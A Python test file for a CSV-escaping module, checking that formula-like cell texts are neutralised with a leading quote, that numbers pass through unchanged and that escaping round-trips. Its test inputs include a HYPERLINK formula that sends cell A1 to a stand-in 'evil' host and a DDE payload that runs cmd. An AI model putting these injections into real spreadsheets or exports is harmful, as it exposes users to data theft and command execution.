"""No text of a CSV file is a formula, numbers are numbers, and what was made harmless is read back."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from precoro_daemon.values.spreadsheet_cells import harmless, restored


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
        "＝1+1", "-", "+49 (30) 123", "--1",
    ],
)  # fmt: skip
def test_a_formula_becomes_a_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-409.62", "+5", "-1,234.56", "1e-7", "-1E+05", "-1 234,5", "INV-17", "'n", "", "a=b", "'twas", "0016"]
)
def test_numbers_and_other_texts_stay(text: str) -> None:
    assert harmless(text) == restored(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r1.a "), max_size=6))
def test_what_was_written_is_read_back(text: str) -> None:
    assert restored(harmless(text)) == text
